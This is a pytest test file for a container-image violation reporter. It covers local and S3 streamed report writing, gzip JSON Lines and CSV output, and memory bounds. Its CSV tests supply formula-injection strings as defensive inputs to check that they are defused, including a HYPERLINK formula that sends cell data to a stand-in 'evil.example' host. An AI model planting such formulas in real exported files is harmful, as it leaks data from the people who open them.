"""Streamed run reports: the local stream's tmp-then-rename, the S3 stream's part logic (against a
recording client), and ``ViolationReport``'s gzip JSON Lines + CSV, with bounded memory."""

from __future__ import annotations

import csv
import gzip
import io
import json
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs

from imagewatch.alerts.ledger import LedgerEntry
from imagewatch.report.run_report import (
    STREAM_CSV_COLUMNS,
    ViolationReport,
    report_key,
    report_key_base,
    write_summary,
)
from imagewatch.report.s3_sink import MIN_PART_SIZE, S3ReportSink
from imagewatch.report.sink import LocalReportSink
from imagewatch.violation import Violation

BASE = "reports/t/2026/12/01/2026-12-01T10:00:00Z-run1"


def violation(i: int, kind: str = "record", message: str | None = None) -> Violation:
    image = f"repo/app-{i % 997}:{i % 13}.{i % 7}"
    return Violation(
        policy_id=f"policy-{i % 11}",
        policy_title="Image has critical vulnerabilities",
        severity=("critical", "high", "medium")[i % 3],  # type: ignore[arg-type]
        subject=f"{image}@host-{i:06d}" if kind == "record" else image,
        label=f"{image} on host-{i:06d}",
        message=message if message is not None else f"{i % 50} critical vulnerabilities (score {i % 97})",
        fields={"image_name": image, "vul_num": i % 50, "host_id": f"host-{i:06d}"},
        kind=kind,  # type: ignore[arg-type]
        host=f"host-{i:06d}",
        host_name=f"ecs-{i % 300}",
        hosts=(i % 40) + 1 if kind == "image" else 0,
        host_names=(f"ecs-{i % 300}", f"ecs-{(i + 1) % 300}") if kind == "image" else (),
    )


def gunzip_lines(path: str) -> list[str]:
    return gzip.decompress(Path(path).read_bytes()).decode().splitlines()


# -- the local stream ---------------------------------------------------------------------------


def test_local_stream_is_invisible_under_its_name_until_closed(tmp_path: Path) -> None:
    sink = LocalReportSink(tmp_path)
    stream = sink.open_stream("a/b/report.jsonl.gz", "application/gzip")
    final = tmp_path / "a/b/report.jsonl.gz"
    stream.write(b"hello ")
    stream.write(b"world")
    assert not final.exists() and (tmp_path / "a/b/report.jsonl.gz.tmp").exists()
    assert stream.close() == str(final) == stream.close()  # repeatable
    assert final.read_bytes() == b"hello world" and sorted(p.name for p in final.parent.iterdir()) == [
        final.name
    ]
    stream.abort()  # a no-op once complete
    assert final.read_bytes() == b"hello world"
    with pytest.raises(ValueError, match="closed"):
        stream.write(b"more")


def test_local_abort_removes_the_partial_file_and_is_idempotent(tmp_path: Path) -> None:
    stream = LocalReportSink(tmp_path).open_stream("r/x.csv.gz", "application/gzip")
    stream.write(b"partial")
    stream.abort()
    stream.abort()
    assert list((tmp_path / "r").iterdir()) == []
    with pytest.raises(ValueError, match="aborted"):
        stream.write(b"more")
    with pytest.raises(ValueError, match="aborted"):
        stream.close()


# -- the S3 stream's part logic ---------------------------------------------------------------------


class RecordingS3:
    """Just enough of an S3 client to see which calls a stream makes, and with what sizes."""

    def __init__(self, fail: str = "") -> None:
        self.calls: list[tuple[str, dict[str, Any]]] = []
        self.fail = fail

    def _record(self, name: str, kwargs: dict[str, Any]) -> None:
        body = kwargs.get("Body")
        self.calls.append((name, {**kwargs, "Body": len(body)} if body is not None else kwargs))
        if name == self.fail:
            raise ConnectionError(f"{name} failed")

    def put_object(self, **kwargs: Any) -> dict[str, Any]:
        self._record("put_object", kwargs)
        return {}

    def create_multipart_upload(self, **kwargs: Any) -> dict[str, Any]:
        self._record("create_multipart_upload", kwargs)
        return {"UploadId": "up-1"}

    def upload_part(self, **kwargs: Any) -> dict[str, Any]:
        self._record("upload_part", kwargs)
        return {"ETag": f'"etag-{kwargs["PartNumber"]}"'}

    def complete_multipart_upload(self, **kwargs: Any) -> dict[str, Any]:
        self._record("complete_multipart_upload", kwargs)
        return {}

    def abort_multipart_upload(self, **kwargs: Any) -> dict[str, Any]:
        self._record("abort_multipart_upload", kwargs)
        return {}

    def names(self) -> list[str]:
        return [name for name, _ in self.calls]


CHUNK = b"x" * (1024 * 1024 + 7)  # odd-sized writes, as gzip's output is


def test_s3_stream_under_one_part_is_a_single_put() -> None:
    client = RecordingS3()
    stream = S3ReportSink("bucket", client, part_size=MIN_PART_SIZE).open_stream("k.gz", "application/gzip")
    stream.write(CHUNK)
    assert stream.close() == "s3://bucket/k.gz"
    assert client.calls == [
        (
            "put_object",
            {"Bucket": "bucket", "Key": "k.gz", "Body": len(CHUNK), "ContentType": "application/gzip"},
        )
    ]


def test_s3_stream_sends_parts_of_at_least_part_size_except_the_last() -> None:
    client = RecordingS3()
    stream = S3ReportSink("bucket", client, part_size=MIN_PART_SIZE).open_stream("k.gz", "application/gzip")
    for _ in range(11):
        stream.write(CHUNK)
    stream.close()
    assert client.names() == ["create_multipart_upload", *["upload_part"] * 3, "complete_multipart_upload"]
    assert client.calls[0][1]["ContentType"] == "application/gzip"
    sizes = [kwargs["Body"] for name, kwargs in client.calls if name == "upload_part"]
    assert all(size >= MIN_PART_SIZE for size in sizes[:-1]) and sum(sizes) == 11 * len(CHUNK)
    assert client.calls[-1][1]["MultipartUpload"] == {
        "Parts": [{"ETag": f'"etag-{n}"', "PartNumber": n} for n in (1, 2, 3)]
    }


def test_s3_stream_aborts_its_upload_once_and_refuses_more() -> None:
    client = RecordingS3()
    stream = S3ReportSink("bucket", client, part_size=MIN_PART_SIZE).open_stream("k.gz", "application/gzip")
    for _ in range(6):
        stream.write(CHUNK)
    stream.abort()
    stream.abort()
    assert client.names() == ["create_multipart_upload", "upload_part", "abort_multipart_upload"]
    assert client.calls[-1][1] == {"Bucket": "bucket", "Key": "k.gz", "UploadId": "up-1"}
    with pytest.raises(ValueError, match="aborted"):
        stream.write(b"more")


def test_s3_stream_aborted_before_a_part_calls_nothing() -> None:
    client = RecordingS3()
    stream = S3ReportSink("bucket", client).open_stream("k.gz", "application/gzip")
    stream.write(CHUNK)
    stream.abort()
    assert client.calls == []


def test_s3_stream_that_cannot_complete_aborts_its_upload() -> None:
    client = RecordingS3(fail="complete_multipart_upload")
    stream = S3ReportSink("bucket", client, part_size=MIN_PART_SIZE).open_stream("k.gz", "application/gzip")
    for _ in range(6):
        stream.write(CHUNK)
    with pytest.raises(ConnectionError):
        stream.close()
    assert client.names()[-1] == "abort_multipart_upload"


def test_s3_abort_that_fails_does_not_hide_the_runs_error() -> None:
    client = RecordingS3(fail="abort_multipart_upload")
    stream = S3ReportSink("bucket", client, part_size=MIN_PART_SIZE).open_stream("k.gz", "application/gzip")
    for _ in range(6):
        stream.write(CHUNK)
    stream.abort()  # logged; the bucket's AbortIncompleteMultipartUpload rule reaps the upload
    assert client.names()[-1] == "abort_multipart_upload"


def test_s3_part_size_below_s3s_minimum_is_refused() -> None:
    with pytest.raises(ValueError, match="minimum part"):
        S3ReportSink("bucket", RecordingS3(), part_size=MIN_PART_SIZE - 1)


# -- ViolationReport ------------------------------------------------------------------------------


def test_report_keys_share_one_base() -> None:
    base = report_key_base("reports/", "cn north/4", "2026-12-01T10:00:00Z", "run1")
    assert base == "reports/cn_north_4/2026/12/01/2026-12-01T10:00:00Z-run1"
    assert report_key("reports/", "cn north/4", "2026-12-01T10:00:00Z", "run1", "json") == base + ".json"


def test_violation_report_round_trips_every_row_with_its_status(tmp_path: Path) -> None:
    rows = [violation(0), violation(1, kind="image"), violation(2, message='=HYPERLINK("http://x")')]
    statuses = ["new", "open", "new"]
    report = ViolationReport(LocalReportSink(tmp_path), BASE)
    for row, status in zip(rows, statuses, strict=True):
        report.add(row, status)
    assert report.rows == 3
    where = report.close()
    assert where == {
        "jsonl": str(tmp_path / f"{BASE}.violations.jsonl.gz"),
        "csv": str(tmp_path / f"{BASE}.violations.csv.gz"),
    }
    assert report.keys == {"jsonl": f"{BASE}.violations.jsonl.gz", "csv": f"{BASE}.violations.csv.gz"}
    lines = [json.loads(line) for line in gunzip_lines(where["jsonl"])]
    assert lines == [{**r.to_dict(), "status": s} for r, s in zip(rows, statuses, strict=True)]

    table = list(csv.reader(io.StringIO(gzip.decompress(Path(where["csv"]).read_bytes()).decode())))
    assert tuple(table[0]) == STREAM_CSV_COLUMNS
    by_fingerprint = {line[0]: dict(zip(STREAM_CSV_COLUMNS, line, strict=True)) for line in table[1:]}
    image = by_fingerprint[rows[1].fingerprint]
    assert image["kind"] == "image" and image["hosts"] == str(rows[1].hosts) and image["status"] == "open"
    record = by_fingerprint[rows[0].fingerprint]
    assert record["kind"] == "record" and record["hosts"] == "" and record["status"] == "new"
    assert by_fingerprint[rows[2].fingerprint]["message"] == '\'=HYPERLINK("http://x")'  # defused
    assert sorted(p.name for p in (tmp_path / BASE).parent.iterdir()) == sorted(
        Path(p).name for p in where.values()
    )  # no .tmp left


def test_resolved_entries_are_rows_with_status_resolved(tmp_path: Path) -> None:
    gone = violation(3, message="=cmd")
    entry = structs.replace(LedgerEntry.from_violation(gone, 1000), status="resolved", resolved_at=2000)
    report = ViolationReport(LocalReportSink(tmp_path), BASE)
    report.add(violation(4), "open")
    report.add_resolved(entry)
    assert (report.rows, report.resolved) == (1, 1)
    where = report.close()
    line = json.loads(gunzip_lines(where["jsonl"])[1])
    assert line["status"] == "resolved" and line["fingerprint"] == gone.fingerprint
    assert (line["first_seen"], line["resolved_at"], line["message"]) == (1000, 2000, "=cmd")
    table = list(csv.reader(io.StringIO(gzip.decompress(Path(where["csv"]).read_bytes()).decode())))
    cells = dict(zip(STREAM_CSV_COLUMNS, table[2], strict=True))
    assert cells["status"] == "resolved" and cells["message"] == "'=cmd" and cells["policy_title"] == ""


HOSTILE_TEXT = [
    "plain",
    "a, b",
    'say "hi"',
    '"',
    '""',
    ",",
    "line\nbreak",
    "cr\rhere",
    "crlf\r\n",
    " lead space",
    "trail space ",
    "",
    "'quoted'",
    "=1+2",
    '-x, "y"',
    "@SUM(A1)",
    "\u2028sep",
    "tab\there",
    'é, ü "ß"',
]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_report_csv_is_what_csv_writer_writes(tmp_path: Path, text: str) -> None:
    """Report rows are joined by hand (``_csv_field``), not by ``csv.writer``: whatever the text, the
    file holds the bytes ``csv.writer`` would write for the same (defused) cells, current and resolved
    rows alike, and reads back to those cells."""
    from imagewatch.report.run_report import csv_cell, sla_cells

    found = structs.replace(
        violation(7, kind="image"), policy_id=text or "p", policy_title=text, label=text, message=text
    )
    gone = structs.replace(LedgerEntry.from_violation(violation(8, message=text), 1000), status="resolved",
                           resolved_at=2000, subject=text, severity=text)  # fmt: skip
    report = ViolationReport(LocalReportSink(tmp_path), BASE)
    report.add(found, "open")
    report.add_resolved(gone)
    text_in_file = gzip.decompress(Path(report.close()["csv"]).read_bytes()).decode()

    expected = io.StringIO()
    writer = csv.writer(expected)
    writer.writerow(STREAM_CSV_COLUMNS)
    v, e = found, gone
    cells = map(csv_cell, (v.policy_id, v.policy_title, v.subject, v.label, v.message))
    writer.writerow([v.fingerprint, v.severity, *cells, "image", v.hosts, "open", "", "", ""])
    cells = map(csv_cell, (e.policy_id, "", e.subject, e.label, e.message))
    clock = sla_cells({"first_seen": e.first_seen, "due_at": e.due_at})
    writer.writerow([csv_cell(e.fingerprint), csv_cell(e.severity), *cells, "", "", "resolved", *clock])
    assert text_in_file == expected.getvalue()
    table = list(csv.reader(io.StringIO(text_in_file, newline="")))
    assert len(table) == 3 and table[1][6] == csv_cell(text) and table[2][6] == csv_cell(text)


def test_a_resolved_row_from_a_tampered_ledger_runs_no_formula(tmp_path: Path) -> None:
    """A resolved row's fingerprint and severity come from the stored ledger, which only checks they
    are text: a tampered entry is defused like inventory text (the hostile review of 2026-12-02)."""
    stored = structs.replace(
        LedgerEntry.from_violation(violation(9), 1_000), status="resolved", resolved_at=2_000,
        fingerprint='=HYPERLINK("http://evil.example/?"&A1,"open")', severity="=2+5",
    )  # fmt: skip
    report = ViolationReport(LocalReportSink(tmp_path), BASE)
    report.add_resolved(stored)
    table = list(csv.reader(io.StringIO(gzip.decompress(Path(report.close()["csv"]).read_bytes()).decode())))
    cells = dict(zip(STREAM_CSV_COLUMNS, table[1], strict=True))
    assert cells["fingerprint"] == "'" + stored.fingerprint and cells["severity"] == "'=2+5"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in table[1])


def test_the_same_rows_make_the_same_bytes(tmp_path: Path) -> None:
    """``mtime=0`` and no file name in the gzip header: a report is a function of its rows."""
    made = []
    for run in ("a", "b"):
        report = ViolationReport(LocalReportSink(tmp_path / run), BASE)
        report.add(violation(5), "new")
        made.append({name: Path(path).read_bytes() for name, path in report.close().items()})
    assert made[0] == made[1]


def test_lone_surrogates_in_inventory_text_do_not_fail_the_report(tmp_path: Path) -> None:
    report = ViolationReport(LocalReportSink(tmp_path), BASE)
    report.add(violation(1, message="bad \ud800 text é"), "new")
    where = report.close()
    assert json.loads(gunzip_lines(where["jsonl"])[0])["message"] == "bad \ud800 text é"
    assert "bad \\ud800 text é" in gzip.decompress(Path(where["csv"]).read_bytes()).decode()


def test_aborted_report_leaves_no_file(tmp_path: Path) -> None:
    report = ViolationReport(LocalReportSink(tmp_path), BASE)
    for i in range(2000):
        report.add(violation(i), "new")
    report.abort()
    report.abort()
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
    with pytest.raises(ValueError, match="aborted"):
        report.close()


class FailingSink(LocalReportSink):
    """A local sink whose ``fail_open``-th stream cannot be opened."""

    def __init__(self, root: Path, fail_open: int) -> None:
        super().__init__(root)
        self.opened = 0
        self.fail_open = fail_open

    def open_stream(self, key: str, content_type: str) -> Any:
        self.opened += 1
        if self.opened == self.fail_open:
            raise OSError("disk full")
        return super().open_stream(key, content_type)


def test_a_report_that_cannot_open_its_second_file_drops_the_first(tmp_path: Path) -> None:
    with pytest.raises(OSError, match="disk full"):
        ViolationReport(FailingSink(tmp_path, fail_open=2), BASE)
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


def test_a_report_that_cannot_close_leaves_no_file(tmp_path: Path) -> None:
    sink = LocalReportSink(tmp_path)
    report = ViolationReport(sink, BASE)
    report.add(violation(1), "new")

    def cannot_rename() -> str:
        raise OSError("rename failed")

    report._files["jsonl"].stream.close = cannot_rename  # type: ignore[method-assign]
    with pytest.raises(OSError, match="rename failed"):
        report.close()
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


def test_write_summary_puts_the_small_document_next_to_the_streams(tmp_path: Path) -> None:
    sink = LocalReportSink(tmp_path)
    report = ViolationReport(sink, BASE)
    report.add(violation(1), "new")
    files = report.close()
    where = write_summary(
        sink, BASE, {"run_id": "run1", "violations_files": report.keys, "rows": report.rows}
    )
    assert where == str(tmp_path / f"{BASE}.json")
    document = json.loads(Path(where).read_text())
    assert document["violations_files"] == report.keys and document["rows"] == 1
    assert all(Path(path).exists() for path in files.values())


# -- memory -----------------------------------------------------------------------------------------


class CountingSink:
    """A sink whose streams only count bytes: measures the writer, not a disk or a network."""

    def __init__(self) -> None:
        self.sizes: dict[str, int] = {}

    def open_stream(self, key: str, content_type: str) -> CountingStream:
        return CountingStream(self, key)

    def put(self, key: str, body: bytes, content_type: str) -> str:
        self.sizes[key] = len(body)
        return key

    def link(self, key: str) -> str | None:
        return None


class CountingStream:
    def __init__(self, sink: CountingSink, key: str) -> None:
        self.sink, self.key = sink, key
        sink.sizes[key] = 0

    def write(self, data: bytes) -> None:
        self.sink.sizes[self.key] += len(data)

    def close(self) -> str:
        return self.key

    def abort(self) -> None:
        self.sink.sizes.pop(self.key, None)


def many(count: int) -> Iterator[Violation]:
    for i in range(count):
        yield violation(i, kind="image" if i % 4 == 0 else "record")


ROWS = 200_000
PEAK_LIMIT = 2 * 1024 * 1024


@pytest.mark.slow
def test_memory_stays_flat_at_200k_rows() -> None:
    """Peak traced (Python-allocated) memory while 200,000 rows are written stays under 2 MiB: the
    writer keeps text and gzip buffers, never rows. zlib's own state (~300 KB per file, allocated
    outside Python) is constant too."""
    sink = CountingSink()
    tracemalloc.start()
    try:
        report = ViolationReport(sink, BASE)
        for i, row in enumerate(many(ROWS)):
            report.add(row, "new" if i % 2 else "open")
        report.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.rows == ROWS
    assert peak < PEAK_LIMIT, f"peak traced memory {peak:,} bytes for {ROWS:,} rows"
    # the output really holds the rows (roughly 40-80 gzipped bytes each), so the check above means something
    assert (
        sink.sizes[f"{BASE}.violations.jsonl.gz"] > ROWS * 20
        and sink.sizes[f"{BASE}.violations.csv.gz"] > ROWS * 10
    )


@pytest.mark.parametrize(
    "text", ["=1+2", "\x07=2+5", "\u202e=2+5", "\u200b@SUM(A1)", "\x1b[31m-1+2", " =cmd", "\n+1", "\t=1"]
)
def test_the_report_csv_defuses_a_formula_behind_invisible_characters(text: str) -> None:
    """The one guard (``csv_cell``) for reports and ``imagewatch violations``: the first *visible*
    character decides, so stripping the invisible ones later cannot arm the cell."""
    from imagewatch.report.run_report import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell("nginx:1.25") == "nginx:1.25" and csv_cell("") == "" and csv_cell("/a=b") == "/a=b"
